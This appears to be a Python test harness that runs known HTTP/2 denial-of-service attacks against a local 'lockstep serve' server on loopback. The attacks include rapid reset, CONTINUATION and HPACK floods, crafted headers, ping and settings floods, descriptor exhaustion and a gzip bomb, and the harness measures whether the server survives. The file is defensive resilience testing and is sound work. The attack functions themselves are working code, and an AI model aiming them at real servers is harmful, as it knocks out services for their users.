#!/usr/bin/env python3
"""Known attacks on HTTP/2 servers, tried on a running `lockstep serve`: does it live, what does it cost, does a good client notice?

    http2_attacks.py LOCKSTEP [MODEL] [--seconds S] [--only NAME]

Raw frames over loopback. Every attack meets a server of its own, and a good client asks for that server's health all the while. Exit
code 1 when a server died, or did not answer a new client afterwards, except from the attack for which nothing in the server helps.
"""
import argparse
import gzip
import json
import os
import resource
import shutil
import signal
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time

from http2_frames import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, GENERATE, HEADERS, HEALTH, PING, RST_STREAM, SETTINGS,
                          WINDOW_UPDATE, Peer, frame, header, request_headers)


class GoodClient(threading.Thread):
    """Asks for the server's health every 10 ms over one connection; latencies in seconds."""

    def __init__(self, port, tls=None):
        super().__init__(daemon=True)
        self.peer, self.latencies, self.failed, self.done = Peer(port, tls), [], None, threading.Event()
        self.frames = self.peer.frames()

    def ask(self, stream):
        start = time.perf_counter()
        self.peer.send(frame(HEADERS, END_HEADERS, stream, request_headers(HEALTH))
                       + frame(DATA, END_STREAM, stream, b"\0\0\0\0\0"))
        for kind, flags, answered, _ in self.frames:
            if answered == stream and kind in (HEADERS, RST_STREAM) and (kind == RST_STREAM or flags & END_STREAM):
                return time.perf_counter() - start
        raise ConnectionError("closed")

    def run(self):
        stream = 1
        while not self.done.is_set():
            try:
                self.latencies.append(self.ask(stream))
            except OSError as error:
                self.failed = str(error) or type(error).__name__
                return
            stream += 2
            time.sleep(0.01)

    def take(self):
        taken, self.latencies = sorted(self.latencies), []
        if not taken:
            return "none answered"
        return "p50 %.1f ms, worst %.0f ms" % (1e3 * taken[len(taken) // 2], 1e3 * taken[-1])


class Server:
    def __init__(self, lockstep, model, scratch, *flags, max_files=None):
        limit = None
        if max_files:
            limit = lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (max_files, 4096))
        environment = dict(os.environ, OMPI_ALLOW_RUN_AS_ROOT="1", OMPI_ALLOW_RUN_AS_ROOT_CONFIRM="1", XDG_RUNTIME_DIR=scratch)
        self.process = subprocess.Popen(
            [lockstep, "serve", model, "--listen", "127.0.0.1:0", "--json", "--num-kv-blocks", "256", "--threads-per-rank", "1",
             *flags], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, preexec_fn=limit, env=environment)
        self.port = None
        for line in self.process.stdout:
            event = json.loads(line)
            if event["event"] == "ready":
                self.port = int(event["address"].rsplit(":", 1)[1])
                break
        if self.port is None:
            raise SystemExit("the server did not start: " + self.process.stderr.read())
        self.last_words = []
        threading.Thread(target=self.process.stdout.read, daemon=True).start()
        threading.Thread(target=lambda: self.last_words.extend(self.process.stderr), daemon=True).start()

    def cpu_seconds(self):
        try:
            fields = open(f"/proc/{self.process.pid}/stat").read().rsplit(")", 1)[1].split()
            return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
        except OSError:
            return 0.0

    def memory_mib(self):
        try:
            fields = open(f"/proc/{self.process.pid}/statm").read().split()
            return int(fields[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20
        except (OSError, IndexError):
            return 0.0

    def death(self):
        """How it ended, or None while it lives."""
        for _ in range(20):
            if self.process.poll() is not None:
                code = self.process.returncode
                how = signal.Signals(-code).name if code < 0 else f"exit code {code}"
                return " ".join([how, *(line.strip() for line in self.last_words[-1:])])
            time.sleep(0.05)
        return None

    def answers(self):
        """How long a new connection waits for its answer, in seconds; None when it gets none in 20 s."""
        start = time.monotonic()
        while time.monotonic() < start + 20:
            try:
                GoodClient(self.port).ask(1)
                return time.monotonic() - start
            except OSError:
                time.sleep(0.1)
        return None

    def stop(self):
        self.process.send_signal(signal.SIGINT)
        time.sleep(0.1)
        self.process.send_signal(signal.SIGINT) if self.process.poll() is None else None
        try:
            self.process.wait(20)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()


# --- the attacks: each returns how many times it did what it does ---

def crafted_header(field):
    """CVE-2023-1428: one odd header, then more than the server's limit of header bytes in the same block."""
    def attack(port, _seconds, tls=None):
        peer = Peer(port, tls)
        block = {"te": lambda: request_headers(HEALTH, te="x"),
                 "scheme": lambda: request_headers(HEALTH, pseudo_scheme="x"),
                 "grpclb": lambda: request_headers(HEALTH) + header("grpclb_client_stats", "x")}[field]()
        block += b"".join(header(f"x-fill-{i}", "y" * 4000) for i in range(16))
        pieces = [block[i:i + 16000] for i in range(0, len(block), 16000)]
        out = frame(HEADERS, END_STREAM, 1, pieces[0])
        for i, piece in enumerate(pieces[1:]):
            out += frame(CONTINUATION, END_HEADERS if i == len(pieces) - 2 else 0, 1, piece)
        peer.send(out)
        peer.socket.settimeout(2)
        try:
            for _ in peer.frames():
                pass
        except OSError:
            pass
        return 1
    return attack


def repeat(make, count=500, connections=1):
    """Sends make(stream) for ever new streams as fast as the server takes them; a connection that it closes is replaced."""
    def attack(port, seconds, tls=None):
        done, end, threads = [0] * connections, time.monotonic() + seconds, []

        def one(index):
            while time.monotonic() < end:
                try:
                    peer = Peer(port, tls, timeout=5)
                    peer.drain_in_background()
                    stream = 1
                    while time.monotonic() < end and stream < 1 << 30:
                        peer.send(b"".join(make(s) for s in range(stream, stream + 2 * count, 2)))
                        stream += 2 * count
                        done[index] += count
                    peer.close()
                except OSError:
                    time.sleep(0.001)
        for index in range(connections):
            threads.append(threading.Thread(target=one, args=(index,)))
            threads[-1].start()
        for thread in threads:
            thread.join()
        return sum(done)
    return attack


HEALTH_BLOCK, GENERATE_BLOCK = request_headers(HEALTH), request_headers(GENERATE)
EMPTY_MESSAGE = b"\0\0\0\0\0"


def reset(stream):
    return frame(HEADERS, END_HEADERS, stream, GENERATE_BLOCK) + frame(RST_STREAM, 0, stream, CANCEL)


def call_and_reset(stream):
    return (frame(HEADERS, END_HEADERS, stream, HEALTH_BLOCK) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
            + frame(RST_STREAM, 0, stream, CANCEL))


def endless_headers(make_piece):
    """One header block that never ends. Counts bytes."""
    def attack(port, seconds, tls=None):
        done, end = 0, time.monotonic() + seconds
        while time.monotonic() < end:
            try:
                peer = Peer(port, tls, timeout=5)
                peer.drain_in_background()
                peer.send(frame(HEADERS, 0, 1, HEALTH_BLOCK))
                while time.monotonic() < end:
                    piece = make_piece()
                    peer.send(piece)
                    done += len(piece)
                peer.close()
            except OSError:
                time.sleep(0.001)
        return done
    return attack


FILL = frame(CONTINUATION, 0, 1, header("x-fill", "y" * 15000)) * 8
TINY = b"".join(frame(CONTINUATION, 0, 1, header("a", "b")) for _ in range(2000))
# A length that goes on in bytes that add nothing to it (RFC 7541, section 5.1 lets them).
VARINT = frame(CONTINUATION, 0, 1, b"\x80" * 16000) * 8


def endless_varint(port, seconds, tls=None):
    first = [frame(CONTINUATION, 0, 1, b"\x00\xff")]
    return endless_headers(lambda: first.pop() if first else VARINT)(port, seconds, tls)


def many_connections(port, seconds, tls=None):
    """CVE-2023-4785: more connections than the soft limit of file descriptors it was started with."""
    held, end = [], time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            if len(held) < 1000:
                held.append(socket.create_connection(("127.0.0.1", port), timeout=1))
            else:
                time.sleep(0.05)
        except OSError:
            time.sleep(0.01)
    for each in held:
        each.close()
    return len(held)


def unfinished_messages(port, seconds, tls=None):
    """Calls that send most of a large message and never its end: the server keeps what came. Counts bytes."""
    peers, done, end = [], 0, time.monotonic() + seconds
    for _ in range(4):
        peer = Peer(port, tls, timeout=2)
        peer.send(b"".join(frame(HEADERS, END_HEADERS, s, GENERATE_BLOCK) + frame(DATA, 0, s, b"\0" + struct.pack(">I", 60 << 20))
                           for s in range(1, 65, 2)))
        peers.append(peer)
    chunk = b"x" * 16000
    def feed(peer):
        nonlocal done
        windows, connection = {s: 65535 - 5 for s in range(1, 65, 2)}, 65535 - 5 * 32
        try:
            frames = peer.frames()
            while time.monotonic() < end:
                for stream in windows:
                    while windows[stream] >= len(chunk) and connection >= len(chunk):
                        peer.send(frame(DATA, 0, stream, chunk))
                        windows[stream] -= len(chunk)
                        connection -= len(chunk)
                        done += len(chunk)
                kind, _, stream, payload = next(frames)
                if kind == WINDOW_UPDATE:
                    if stream == 0:
                        connection += int.from_bytes(payload, "big")
                    elif stream in windows:
                        windows[stream] += int.from_bytes(payload, "big")
                elif kind == SETTINGS and len(payload) >= 6:
                    for at in range(0, len(payload), 6):
                        name, value = struct.unpack(">HI", payload[at:at + 6])
                        if name == 4:
                            for each in windows:
                                windows[each] += value - 65535
        except (OSError, StopIteration):
            pass
    threads = [threading.Thread(target=feed, args=(peer,)) for peer in peers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for peer in peers:
        peer.close()
    return done


def compressed_messages(port, seconds, tls=None):
    """60 KB of gzip that would be 60 MiB, a call and a connection each. Counts the calls."""
    message = gzip.compress(bytes(60 << 20))
    message = b"\1" + struct.pack(">I", len(message)) + message
    call = frame(HEADERS, END_HEADERS, 1, GENERATE_BLOCK + header("grpc-encoding", "gzip"))
    for at in range(0, len(message), 16000):
        call += frame(DATA, END_STREAM if at + 16000 >= len(message) else 0, 1, message[at:at + 16000])
    done, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        peer = Peer(port, tls)
        try:
            peer.send(call)
            for kind, flags, stream, _ in peer.frames():
                if stream == 1 and (kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM)):
                    break
            done += 1
        except OSError:
            time.sleep(0.001)
        peer.close()
    return done


# gRPC 1.51 keeps reading calls while the ends of others wait, and Debian's build (with its debug checks) searches a list of all that wait
# for each that ends: seconds of attack are followed by many of work.
HELPLESS = "rapid reset of calls, 4 connections"
ATTACKS = {
    "crafted te header (CVE-2023-1428)": (crafted_header("te"), "tries"),
    "crafted :scheme header (CVE-2023-1428)": (crafted_header("scheme"), "tries"),
    "crafted grpclb header (CVE-2023-1428)": (crafted_header("grpclb"), "tries"),
    "rapid reset (CVE-2023-44487)": (repeat(reset), "resets"),
    HELPLESS: (repeat(call_and_reset, connections=4), "resets"),
    "endless header block (CVE-2024-27316)": (endless_headers(lambda: FILL), "bytes"),
    "endless small headers (CVE-2023-33953)": (endless_headers(lambda: TINY), "bytes"),
    "endless HPACK integer (CVE-2023-33953)": (endless_varint, "bytes"),
    "ping flood (CVE-2019-9512)": (repeat(lambda _: frame(PING, 0, 0, b"12345678")), "pings"),
    "settings flood (CVE-2019-9515)": (repeat(lambda _: frame(SETTINGS, 0, 0)), "frames"),
    "more connections than descriptors (CVE-2023-4785)": (many_connections, "connections"),
    "unfinished messages": (unfinished_messages, "bytes"),
    "compressed messages": (compressed_messages, "calls"),
}


def make_certificates(scratch):
    """An authority and a server's certificate for 127.0.0.1; None without the openssl program."""
    if shutil.which("openssl") is None:
        return None
    path = lambda name: os.path.join(scratch, name)
    new = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2"]
    run = lambda *more: subprocess.run([*new, *more], check=True, capture_output=True)
    run("-keyout", path("ca.key"), "-out", path("ca.pem"), "-subj", "/CN=ca")
    for name in ("server", "client"):
        run("-CA", path("ca.pem"), "-CAkey", path("ca.key"), "-keyout", path(f"{name}.key"), "-out", path(f"{name}.pem"), "-subj",
            f"/CN={name}", "-addext", "subjectAltName=IP:127.0.0.1", "-addext", "basicConstraints=critical,CA:FALSE")
    return path


def report(name, outcome):
    print(f"{name:50s} {outcome}", flush=True)


def try_attack(name, attack, unit, arguments, scratch):
    server = Server(arguments.lockstep, arguments.model, scratch, max_files=256 if "descriptors" in name else None)
    good = GoodClient(server.port)
    good.start()
    time.sleep(0.5)
    quiet, cpu, start = good.take(), server.cpu_seconds(), time.monotonic()
    peak = [server.memory_mib()]
    before, watching = peak[0], threading.Event()
    threading.Thread(target=lambda: [peak.append(server.memory_mib()) for _ in iter(lambda: watching.wait(0.05), True)],
                     daemon=True).start()
    count = attack(server.port, arguments.seconds)
    seconds = time.monotonic() - start
    cpu = server.cpu_seconds() - cpu
    watching.set()
    good.done.set()
    death = server.death()
    if death:
        report(name, f"DIED ({death}) after {count:,} {unit} in {seconds:.1f} s")
    else:
        report(name, f"lives; {count / seconds:,.0f} {unit}/s, {100 * cpu / seconds:.0f} % CPU, memory {before:.0f} -> "
               f"{max(peak):.0f} MiB; good client {good.take()} (before {quiet})" + (f"; then {good.failed}" if good.failed else ""))
    answered = None if death else server.answers()
    if not death:
        report("", f"a new client is answered in {1e3 * answered:.1f} ms" if answered else f"A NEW CLIENT IS NOT ANSWERED ({server.death() or 'the server still runs'})")
    server.stop()
    return answered is not None or name == HELPLESS


def try_behind_mutual_tls(arguments, scratch):
    """Crafted headers from a client without a certificate must not reach HTTP/2."""
    path = make_certificates(scratch)
    if path is None:
        report("crafted header at mutual TLS", "SKIPPED: the openssl program is not installed")
        return True
    server = Server(arguments.lockstep, arguments.model, scratch, "--tls-cert", path("server.pem"), "--tls-key", path("server.key"),
                    "--tls-client-ca", path("ca.pem"))
    stranger = ssl.create_default_context(cafile=path("ca.pem"))
    stranger.set_alpn_protocols(["h2"])
    try:
        crafted_header("te")(server.port, 0, stranger)
    except OSError:
        pass
    death = server.death()
    report("crafted te header at mutual TLS, no certificate", f"DIED ({death})" if death else "lives: refused in the handshake")
    if not death:
        known = ssl.create_default_context(cafile=path("ca.pem"))
        known.set_alpn_protocols(["h2"])
        known.load_cert_chain(path("client.pem"), path("client.key"))
        report("", "a client with one is answered in %.1f ms" % (1e3 * GoodClient(server.port, known).ask(1)))
    server.stop()
    return death is None


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("lockstep")
    shared = os.environ.get("LOCKSTEP_SHARED", os.path.join(os.path.dirname(__file__), "../../../shared"))
    parser.add_argument("model", nargs="?", default=os.path.join(shared, "models", "stories260K"))
    parser.add_argument("--seconds", type=float, default=3.0, help="how long each attack goes on")
    parser.add_argument("--only", default="", help="attacks whose name contains this")
    arguments = parser.parse_args()
    if not os.path.isdir(arguments.model):
        print(f"SKIPPED: {arguments.model} is absent (set LOCKSTEP_SHARED)")
        return 77
    good = True
    with tempfile.TemporaryDirectory(prefix="lockstep-attacks-", dir="/tmp") as scratch:
        for name, (attack, unit) in ATTACKS.items():
            if arguments.only in name:
                good = try_attack(name, attack, unit, arguments, scratch) and good
        if arguments.only in "mutual TLS":
            good = try_behind_mutual_tls(arguments, scratch) and good
    return 0 if good else 1


if __name__ == "__main__":
    sys.exit(main())
